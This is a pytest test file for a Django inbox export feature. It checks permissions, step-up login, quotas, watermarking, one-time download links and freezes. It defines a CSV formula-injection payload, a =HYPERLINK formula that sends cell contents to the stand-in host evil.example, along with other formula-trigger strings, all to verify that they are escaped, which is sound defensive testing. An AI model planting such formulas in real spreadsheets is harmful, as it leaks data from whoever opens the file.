"""Governed exports: permission, step-up, quota, watermark, formula escaping, the one-time
user-bound link, permission re-checked at the run and at the download, freezes, and the
record of every step. The worker test runs the job on a real Celery worker; the others call
the task's body directly."""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
from django.test import Client
from django.utils import timezone

from accounts.models import User
from audit.models import AccessEvent
from inbox.exports import services
from inbox.exports.formats import csv_cell
from inbox.exports.models import ExportJob
from inbox.models import Conversation, InboxUserObjectPermission
from tests.exports.conftest import EXPORT_PERMS
from tests.inbox.conftest import Segments, grant_inbox, make_conversation

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


def request_export(client: Client, segments: Segments, kind: str = "conversations", fmt: str = "csv") -> Any:
    return client.post("/exports/", {"inbox": segments.support.pk, "kind": kind, "format": fmt})


def run_latest(user: User) -> ExportJob:
    job = ExportJob.objects.filter(user=user).latest("pk")
    services.export_run(job.pk)
    job.refresh_from_db()
    return job


def download(client: Client, job: ExportJob) -> Any:
    progress = client.get(f"/exports/{job.pk}/progress/").json()
    assert progress["download_url"], progress
    return client.get(progress["download_url"])


def body(response: Any) -> str:
    return b"".join(response.streaming_content).decode()


def actions(job: ExportJob) -> list[tuple[str, bool]]:
    return list(
        AccessEvent.objects.filter(object_type="inbox.exportjob", object_id=job.pk)
        .order_by("pk")
        .values_list("action", "allowed")
    )


# --- Writing --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign, which spreadsheets accept too
        ("Printer jam", "Printer jam"),
        (42, 42),
    ],
)
def test_csv_cells_that_would_run_as_formulas_are_escaped(value: object, written: object) -> None:
    assert csv_cell(value) == written


def test_csv_export_is_watermarked_escaped_and_holds_only_the_segment(
    segments: Segments, exporter: User, erin: Client
) -> None:
    evil = make_conversation(segments.support, text="evil")
    Conversation.objects.filter(pk=evil.pk).update(subject=HYPERLINK)
    assert request_export(erin, segments).status_code == 302
    job = run_latest(exporter)
    assert (job.status, job.rows_written) == ("done", 4)

    response = download(erin, job)
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert f"portcullis-export-{job.pk}-conversations-erin-" in disposition and disposition.endswith('.csv"')
    rows = list(csv.reader(io.StringIO(body(response))))
    watermark = rows[0][0]
    assert (
        f"export {job.pk}" in watermark
        and "by erin" in watermark
        and job.created_at.strftime("%Y-%m-%d") in watermark
    )
    assert rows[1][:3] == ["id", "subject", "status"]
    subjects = {row[1] for row in rows[2:]}
    assert "'" + HYPERLINK in subjects and HYPERLINK not in subjects
    exported = {int(row[0]) for row in rows[2:]}
    assert exported == {c.pk for c in segments.support_conversations} | {max(exported)}
    assert not exported & {c.pk for c in segments.billing_conversations}


def test_json_export_of_messages_carries_the_watermark(
    segments: Segments, exporter: User, erin: Client
) -> None:
    request_export(erin, segments, kind="messages", fmt="json")
    job = run_latest(exporter)
    response = download(erin, job)
    document = json.loads(body(response))
    assert document["watermark"]["export_id"] == job.pk and document["watermark"]["user"] == "erin"
    assert {row["text"] for row in document["rows"]} == {f"printer jam {i}" for i in range(3)}
    assert response["Content-Disposition"].endswith('.json"')


def test_contacts_export_lists_their_handles(segments: Segments, exporter: User, erin: Client) -> None:
    request_export(erin, segments, kind="contacts")
    job = run_latest(exporter)
    rows = list(csv.reader(io.StringIO(body(download(erin, job)))))[2:]
    assert len(rows) == 3 and all(row[2].startswith("email:customer") for row in rows)


# --- Who may export -------------------------------------------------------------------------


def test_without_the_export_grant_nothing_is_queued(segments: Segments, verified_client: Any) -> None:
    sue = verified_client(segments.support_agent)  # view, reply, assign: no export
    response = request_export(sue, segments)
    assert response.status_code == 403 and "may not export" in response.content.decode()
    assert not ExportJob.objects.exists()


def test_an_inbox_outside_the_segment_is_not_even_offered(segments: Segments, erin: Client) -> None:
    response = erin.post(
        "/exports/", {"inbox": segments.billing.pk, "kind": "conversations", "format": "csv"}
    )
    assert response.status_code == 400 and not ExportJob.objects.exists()


def test_bad_input_is_a_form_error(segments: Segments, erin: Client) -> None:
    response = erin.post("/exports/", {"inbox": "x", "kind": "everything", "format": "xlsx"})
    assert response.status_code == 400 and not ExportJob.objects.exists()


def test_a_stolen_session_without_a_fresh_factor_is_asked_for_one(
    segments: Segments, exporter: User, erin: Client, totp: Callable[[User], Any]
) -> None:
    session = erin.session
    session["portcullis_otp_verified_at"] = timezone.now().timestamp() - 3600
    session.save()
    prompt = request_export(erin, segments)
    assert prompt.status_code == 403 and b'name="token"' in prompt.content
    assert not ExportJob.objects.exists()

    fields = {"inbox": segments.support.pk, "kind": "conversations", "format": "csv"}
    stepped = erin.post(
        "/accounts/step-up/",
        {"step_up_next": "/exports/", "step_up_method": "POST", **fields, "token": totp(exporter).now()},
    )
    assert stepped.status_code == 307
    assert erin.post("/exports/", fields).status_code == 302
    assert ExportJob.objects.count() == 1


def test_daily_quota_of_files_and_rows(
    segments: Segments, exporter: User, erin: Client, settings: Any
) -> None:
    for _ in range(3):
        assert request_export(erin, segments).status_code == 302
    refused = request_export(erin, segments)
    assert refused.status_code == 429 and "today&#x27;s 3 exports" in refused.content.decode()

    # A failed export charges nothing; yesterday's exports no longer count.
    ExportJob.objects.filter(pk=ExportJob.objects.latest("pk").pk).update(status="failed")
    settings.EXPORT_DAILY_MAX_ROWS = 8  # 6 rows charged already, 3 more asked for
    refused = request_export(erin, segments)
    assert refused.status_code == 429 and "holds 3 rows; you may export 2 more" in refused.content.decode()
    ExportJob.objects.update(created_at=timezone.now() - timedelta(hours=25))
    assert request_export(erin, segments).status_code == 302
    assert ExportJob.objects.count() == 4
    assert (
        AccessEvent.objects.filter(
            object_type="inbox.exportjob", action="export:request", allowed=False
        ).count()
        == 2
    )


# --- The link -------------------------------------------------------------------------------


def test_the_link_works_once_and_the_file_is_gone(
    segments: Segments, exporter: User, erin: Client, export_settings: Path
) -> None:
    request_export(erin, segments)
    job = run_latest(exporter)
    url = erin.get(f"/exports/{job.pk}/progress/").json()["download_url"]
    assert list(export_settings.iterdir()) == [export_settings / f"{job.pk}.csv"]
    assert erin.get(url).status_code == 200
    assert list(export_settings.iterdir()) == []
    again = erin.get(url)
    assert again.status_code == 410 and "works once" in again.content.decode()
    assert erin.get(f"/exports/{job.pk}/progress/").json()["download_url"] is None
    assert actions(job) == [
        ("export:request", True),
        ("export:written", True),
        ("export:download", True),
        ("export:download", False),
    ]


def test_the_link_expires(segments: Segments, exporter: User, erin: Client, settings: Any) -> None:
    request_export(erin, segments)
    job = run_latest(exporter)
    url = erin.get(f"/exports/{job.pk}/progress/").json()["download_url"]
    later = timezone.now() + settings.EXPORT_LINK_TTL + timedelta(seconds=1)
    with mock.patch("django.utils.timezone.now", return_value=later):
        response = erin.get(url)
    assert response.status_code == 410 and "expired" in response.content.decode()


def test_expired_files_are_purged(
    segments: Segments, exporter: User, erin: Client, export_settings: Path
) -> None:
    request_export(erin, segments)
    job = run_latest(exporter)
    assert services.exports_purge() == 0
    assert services.exports_purge(now=job.link_expires_at) == 1
    assert list(export_settings.iterdir()) == []


def test_a_stolen_link_is_useless_to_anyone_else(
    segments: Segments, exporter: User, erin: Client, make_user: Callable[..., User], verified_client: Any
) -> None:
    request_export(erin, segments)
    job = run_latest(exporter)
    url = erin.get(f"/exports/{job.pk}/progress/").json()["download_url"]
    thief = make_user("Agent")
    grant_inbox(segments.support, thief, EXPORT_PERMS)  # even one who may export the same inbox
    mallory = verified_client(thief)
    assert mallory.get(url).status_code == 404
    assert mallory.get(f"/exports/{job.pk}/progress/").status_code == 404
    forged = erin.get(f"/exports/{job.pk}/download/?t=forged")
    assert forged.status_code == 403
    assert erin.get(url).status_code == 200  # the owner's link still works: the others used nothing


def test_permission_lost_between_the_job_and_the_download(
    segments: Segments, exporter: User, erin: Client
) -> None:
    request_export(erin, segments)
    job = run_latest(exporter)
    InboxUserObjectPermission.objects.filter(user=exporter, permission__codename="export_inbox").delete()
    response = download(erin, job)
    assert response.status_code == 403 and "no longer export" in response.content.decode()


def test_permission_lost_between_the_request_and_the_run(
    segments: Segments, exporter: User, erin: Client
) -> None:
    request_export(erin, segments)
    InboxUserObjectPermission.objects.filter(user=exporter, permission__codename="export_inbox").update(
        expires_at=timezone.now() - timedelta(seconds=1)
    )
    job = run_latest(exporter)
    assert (job.status, job.error, job.file_name) == (
        "failed",
        "You may no longer export from this inbox.",
        "",
    )


# --- Freezes --------------------------------------------------------------------------------


def test_a_freeze_stops_requests_runs_and_downloads_until_lifted(
    segments: Segments, exporter: User, erin: Client
) -> None:
    request_export(erin, segments)
    done = run_latest(exporter)
    request_export(erin, segments)
    queued = ExportJob.objects.latest("pk")
    services.exports_freeze(
        exporter, reason="Export volume far above usual", until=timezone.now() + timedelta(hours=4)
    )

    refused = request_export(erin, segments)
    assert refused.status_code == 403 and "Export volume far above usual" in refused.content.decode()
    assert download(erin, done).status_code == 403
    services.export_run(queued.pk)
    queued.refresh_from_db()
    assert queued.status == "failed" and "frozen" in queued.error

    assert services.exports_unfreeze(exporter) == 1
    assert download(erin, done).status_code == 200
    assert request_export(erin, segments).status_code == 302


def test_a_freeze_stops_a_running_export_at_its_next_chunk(
    segments: Segments, exporter: User, erin: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    from inbox.exports import sources

    monkeypatch.setattr(sources, "CHUNK", 1)
    request_export(erin, segments)
    job = ExportJob.objects.latest("pk")
    original = services.selectors.freeze_of
    calls = {"n": 0}

    def freeze_of(user: User) -> Any:
        calls["n"] += 1
        if calls["n"] == 3:  # the run's own check and the first chunk's have passed
            services.exports_freeze(user, reason="volume", until=timezone.now() + timedelta(hours=1))
        return original(user)

    monkeypatch.setattr(services.selectors, "freeze_of", freeze_of)
    services.export_run(job.pk)
    job.refresh_from_db()
    assert job.status == "failed" and "frozen" in job.error and job.rows_written == 1
    assert not any(services.export_path(job).parent.iterdir())  # the partial file is gone


# --- On a real worker -----------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("celery_worker", "role_groups")
def test_an_export_runs_on_the_worker_with_progress(
    make_user: Callable[..., User], verified_client: Any, export_settings: Path
) -> None:
    from accounts import roles
    from inbox.models import ChannelKind, Inbox, Module

    inbox = Inbox.objects.create(name="Email support", channel_kind=ChannelKind.EMAIL, module=Module.SUPPORT)
    user = make_user(roles.AGENT, username="erin")
    grant_inbox(inbox, user, EXPORT_PERMS)
    for i in range(5):
        make_conversation(inbox, text=f"question {i}")
    client = verified_client(user)
    assert (
        client.post("/exports/", {"inbox": inbox.pk, "kind": "messages", "format": "csv"}).status_code == 302
    )
    job = ExportJob.objects.get()
    page = client.get("/exports/").content.decode()
    assert "<progress" in page
    # A worker already warm may have finished the five rows before the page was drawn: then
    # the row offers the file instead of polling for progress.
    polling = f'data-progress-url="/exports/{job.pk}/progress/"' in page
    assert polling or f"/exports/{job.pk}/download/" in page

    deadline = time.monotonic() + 30
    progress = client.get(f"/exports/{job.pk}/progress/").json()
    while progress["status"] in ("queued", "running") and time.monotonic() < deadline:
        time.sleep(0.1)
        progress = client.get(f"/exports/{job.pk}/progress/").json()
    assert (progress["status"], progress["percent"], progress["rows_written"]) == ("done", 100, 5)
    response = client.get(progress["download_url"])
    assert response.status_code == 200
    assert len(list(csv.reader(io.StringIO(body(response))))) == 2 + 5
